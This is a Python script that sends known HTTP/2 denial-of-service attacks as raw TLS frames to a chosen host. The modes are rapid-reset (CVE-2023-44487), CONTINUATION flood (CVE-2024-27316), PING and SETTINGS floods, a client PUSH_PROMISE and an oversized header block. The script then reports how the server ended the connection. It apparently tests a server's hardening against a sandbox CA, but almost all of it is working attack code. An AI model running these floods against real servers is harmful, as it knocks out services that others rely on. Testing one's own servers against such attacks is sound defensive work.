#!/usr/bin/python3
"""Known HTTP/2 attacks, as raw frames over TLS (ALPN h2) to --host:443 with the sandbox CA.

  rapid-reset   HEADERS then RST_STREAM on a new stream, --count times (CVE-2023-44487)
  continuation  one HEADERS without END_HEADERS, then --count CONTINUATION frames (CVE-2024-27316)
  ping-flood    --count PING frames
  settings-flood --count SETTINGS frames
  push-promise  a PUSH_PROMISE from the client (clients may not push)
  big-headers   one header block of 80 KiB (over the 64 KiB header list limit), in a HEADERS
                frame and 4 CONTINUATION frames of 16 KiB

Prints how the connection ended: "goaway <error code>", "closed" (without GOAWAY), or
"open" if it was still open after everything was sent (then "frames <n>" before it).
"""
import argparse, socket, ssl, struct, sys, time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def header_block(host, path="/"):
    # HPACK literals without indexing (0x00), names and values as plain strings.
    out = b""
    for name, value in [(":method", "GET"), (":scheme", "https"), (":path", path), (":authority", host)]:
        out += b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
    return out

def encode_length(n):
    """An HPACK string length (7-bit prefix integer, no Huffman)."""
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)

def main():
    p = argparse.ArgumentParser()
    p.add_argument("mode")
    p.add_argument("--host", required=True)
    p.add_argument("--cafile", required=True)
    p.add_argument("--count", type=int, default=10000)
    args = p.parse_args()
    context = ssl.create_default_context(cafile=args.cafile)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection((args.host, 443), timeout=10), server_hostname=args.host)
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    sock.sendall(PREFACE + frame(4, 0, 0))
    sent = 0
    try:
        if args.mode == "rapid-reset":
            for i in range(args.count):
                stream = 1 + 2 * i
                sock.sendall(frame(1, 0x4 | 0x1, stream, header_block(args.host)) + frame(3, 0, stream, struct.pack(">I", 8)))
                sent += 1
        elif args.mode == "continuation":
            sock.sendall(frame(1, 0x1, 1, header_block(args.host)))  # END_STREAM, no END_HEADERS
            for i in range(args.count):
                sock.sendall(frame(9, 0, 1, b"\x00\x01x\x01y"))
                sent += 1
        elif args.mode == "ping-flood":
            for i in range(args.count):
                sock.sendall(frame(6, 0, 0, struct.pack(">Q", i)))
                sent += 1
        elif args.mode == "settings-flood":
            for i in range(args.count):
                sock.sendall(frame(4, 0, 0, struct.pack(">HI", 3, 100)))
                sent += 1
        elif args.mode == "big-headers":
            # five literal fields "x: vvv…" of 16000 bytes each, without indexing
            value = b"v" * 16000
            one = b"\x00\x01x" + encode_length(len(value)) + value
            payload = header_block(args.host) + one * 5
            pieces = [payload[i:i + 16384] for i in range(0, len(payload), 16384)]
            sock.sendall(frame(1, 0x1 | (0x4 if len(pieces) == 1 else 0), 1, pieces[0]))
            for i, piece in enumerate(pieces[1:], 1):
                sock.sendall(frame(9, 0x4 if i == len(pieces) - 1 else 0, 1, piece))
            sent = len(pieces)
        elif args.mode == "push-promise":
            sock.sendall(frame(1, 0x4 | 0x1, 1, header_block(args.host)))
            sock.sendall(frame(5, 0x4, 1, struct.pack(">I", 2) + header_block(args.host, "/pushed")))
            sent = 1
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
        pass
    print("frames", sent, flush=True)
    # Read what comes back until the connection ends (or goes quiet).
    data = b""
    ended = False
    deadline = time.time() + 10
    sock.settimeout(2)
    while time.time() < deadline:
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            chunk = b""
        if not chunk:
            ended = True
            break
        data += chunk
    offset = 0
    while offset + 9 <= len(data):
        length = int.from_bytes(data[offset:offset + 3], "big")
        kind = data[offset + 3]
        if kind == 7 and offset + 9 + 8 <= len(data):
            code = int.from_bytes(data[offset + 13:offset + 17], "big")
            print("goaway", code, flush=True)
            return
        offset += 9 + length
    print("closed" if ended else "open", flush=True)

if __name__ == "__main__":
    main()
